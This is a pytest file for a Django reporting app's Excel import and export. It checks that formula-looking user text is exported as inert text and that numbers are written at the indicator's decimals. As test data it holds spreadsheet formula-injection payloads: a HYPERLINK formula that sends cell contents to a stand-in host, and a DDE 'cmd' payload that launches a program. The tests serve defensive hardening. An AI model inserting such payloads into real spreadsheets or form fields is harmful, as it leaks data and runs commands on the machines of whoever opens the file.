"""Excel in and out, hardened (issue 16, findings 6 and 7): user text goes out as text,
numbers as numbers at the indicator's decimals; the import refuses what it would misread."""

import dataclasses
import io
import zipfile
from decimal import Decimal as D

import openpyxl
import pytest
from django.utils import timezone

from kinerja import excel, services
from kinerja.excel import baca_rencana, ekspor_pengukuran, ekspor_rencana
from kinerja.selectors import pk_berlaku, tabel_pengukuran
from kinerja.tests.factories import PerjanjianKinerjaFactory

pytestmark = pytest.mark.django_db

RUMUS = '=HYPERLINK("http://contoh.invalid/?q="&A1,"klik")'


def _lembar_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/"))


def _sel_teks(data: bytes) -> dict[str, list]:
    wb = openpyxl.load_workbook(io.BytesIO(data))  # formulas as written, not cached values
    return {ws.title: [(c.value, c.data_type) for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
            for ws in wb.worksheets}


def test_plan_export_writes_formula_looking_text_as_text():
    pk = PerjanjianKinerjaFactory(tahun=2030)
    s = services.sasaran_create(perjanjian=pk, uraian="=1+1", kode="S1")
    services.indikator_create(
        sasaran=s, nama=RUMUS, satuan="=2*3", is_iku=True, target_tahunan=D("100"),
        target_triwulan={1: services.TargetTW(target=D("25"), target_maks=None, rencana_aksi="=cmd|' /C calc'!A0")},
    )
    services.program_create(perjanjian=pk, kode="P1", nama="@SUM(1+1)*cmd", anggaran=D("1000"),
                            anggaran_triwulan={})
    data = ekspor_rencana(perjanjian=pk)
    assert "<f>" not in _lembar_xml(data)
    teks = _sel_teks(data)
    nilai = {v for v, _t in teks["Indikator"]} | {v for v, _t in teks["Program"]}
    assert {RUMUS, "=1+1", "=2*3", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd"} <= nilai
    assert {t for lembar in teks.values() for _v, t in lembar} == {"s"}
    # and the text comes back as the same text
    pratinjau = baca_rencana(data, perangkat_daerah=pk.perangkat_daerah)
    assert pratinjau.ok, [str(g) for g in pratinjau.galat]
    assert pratinjau.sasaran[0].indikator[0].nama == RUMUS


def test_measurement_export_writes_notes_as_text_and_numbers_at_the_indicators_decimals(demo, monkeypatch):
    pk = pk_berlaku(pd=demo.dpmptsp, tahun=timezone.localdate().year)

    def tabel_dengan_rumus(**kwargs):
        tabel = tabel_pengukuran(**kwargs)
        b = tabel.sasaran[0].indikator[0]
        tabel.sasaran[0].indikator[0] = dataclasses.replace(
            b, nama=RUMUS, catatan="=HYPERLINK(\"http://x.invalid\")", desimal=2,
            realisasi_ytd=D("81.66666666666666666666666667"), realisasi=D("80.125"))
        return tabel

    monkeypatch.setattr(excel, "tabel_pengukuran", tabel_dengan_rumus)
    data = ekspor_pengukuran(perjanjian=pk, triwulan=2)
    assert "<f>" not in _lembar_xml(data)
    ws = openpyxl.load_workbook(io.BytesIO(data))["Pengukuran"]
    header = [c.value for c in ws[4]]
    baris = ws[5]
    sel = {h: baris[i] for i, h in enumerate(header)}
    assert sel["Indikator Kinerja"].value == RUMUS and sel["Indikator Kinerja"].data_type == "s"
    assert sel["Catatan"].data_type == "s"
    ytd = sel["Realisasi s.d. TW II"]
    assert ytd.data_type == "n" and ytd.value == 81.67 and ytd.number_format == "#,##0.00"
    assert sel["Realisasi"].value == 80.13  # half up, as on screen
    assert all(c.data_type != "s" or not str(c.value)[:1].isdigit() for c in baris)  # no number as text
